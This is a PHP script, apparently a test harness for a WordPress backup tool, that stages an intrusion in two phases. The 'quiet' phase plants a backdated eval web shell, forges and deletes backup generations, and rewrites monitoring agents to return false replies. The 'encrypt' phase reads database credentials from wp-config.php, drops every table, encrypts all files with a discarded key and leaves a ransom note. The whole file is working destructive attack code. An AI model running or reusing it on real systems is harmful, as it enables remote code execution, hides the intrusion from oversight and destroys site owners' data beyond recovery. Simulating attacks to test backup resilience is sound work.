<?php
// What an intruder does with the rights of the site's account: `php attack.php quiet|encrypt STATE ROOT`.

error_reporting(E_ALL);
set_error_handler(function ($number, $text, $file, $line) {
    fwrite(STDERR, "$text in line $line\n");
    exit(1);
});
list(, $phase, $state, $root) = $argv;

function files_below($folder)
{
    $found = [];
    foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator($folder, FilesystemIterator::SKIP_DOTS)) as $path => $info) {
        if ($info->isFile() && !$info->isLink()) {
            $found[] = $path;
        }
    }
    return $found;
}

if ($phase === 'quiet') {
    // A back door as old as its neighbours; the newest backup becomes a likely one, another one goes.
    $shell = "$root/wp-content/uploads/2024/shell.php";
    @mkdir(dirname($shell), 0755, true);
    file_put_contents($shell, "<?php echo 'the shell runs'; @eval(\$_POST['x']);\n");
    touch($shell, 1600000000);
    $generations = array_reverse(glob("$state/generations/2*"));
    list($newest, $before, $gone) = $generations;
    foreach (['manifest', 'database.sql.gz', 'summary.json'] as $name) {
        chmod("$newest/$name", 0600);
        $bytes = file_get_contents("$before/$name");
        file_put_contents("$newest/$name", $name === 'summary.json' ? str_replace(basename($before), basename($newest), $bytes) : $bytes);
    }
    array_map('unlink', glob("$gone/*"));
    rmdir($gone);
    // Whoever asks this server from now on is to hear what the intruder likes.
    foreach (glob(dirname($state) . '/agent-*.php') as $agent) {
        file_put_contents($agent, "<?php touch(getenv('HOME') . '/believed'); echo '{\"reply\": {\"generations\": []}}';");
    }
    exit;
}

preg_match_all("/define\\(\\s*'(DB_\\w+)',\\s*'([^']*)'/", file_get_contents(is_file("$root/wp-config.php") ? "$root/wp-config.php" : dirname($root) . '/wp-config.php'), $words);
$database = array_combine($words[1], $words[2]);
list($host, $port) = explode(':', $database['DB_HOST'], 2) + [1 => ''];
$link = mysqli_connect($host, $database['DB_USER'], $database['DB_PASSWORD'], $database['DB_NAME'], (int) $port ?: null, ctype_digit($port) ? null : $port);
mysqli_query($link, 'SET FOREIGN_KEY_CHECKS=0');
foreach (mysqli_fetch_all(mysqli_query($link, 'SHOW TABLES')) as $row) {
    mysqli_query($link, "DROP TABLE IF EXISTS `{$row[0]}`");
}
$key = random_bytes(64);
foreach (array_merge(files_below(dirname($state)), files_below($root)) as $path) {
    chmod($path, 0600);
    $bytes = file_get_contents($path);
    file_put_contents($path, 'LOCKED' . ($bytes ^ str_repeat($key, intdiv(strlen($bytes), 64) + 1)));
    strpos($path, '/uploads/2024/') || rename($path, "$path.locked");
}
file_put_contents("$root/READ_ME.txt", "Your files are encrypted. Pay.\n");
